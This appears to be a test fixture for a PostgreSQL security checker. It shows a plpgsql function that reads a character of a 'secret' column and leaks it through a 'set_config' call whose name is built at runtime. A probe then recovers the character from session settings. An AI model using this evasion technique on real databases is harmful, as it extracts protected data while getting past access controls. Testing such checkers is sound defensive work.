-- Fills in set_config as the function of a text that is otherwise constant.
-- wants: read
-- shows: letter-116
-- setup:
CREATE FUNCTION call_it(called text) RETURNS void LANGUAGE plpgsql AS $$ DECLARE letter int; BEGIN
  EXECUTE 'SELECT ascii(secret) FROM vlt_account WHERE id = $1' INTO letter USING 1;
  EXECUTE format('SELECT %I($1, $2, true)', called) USING 'x.y1_' || letter, '';
END $$;
-- attack:
SELECT call_it('set_' || 'config');
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
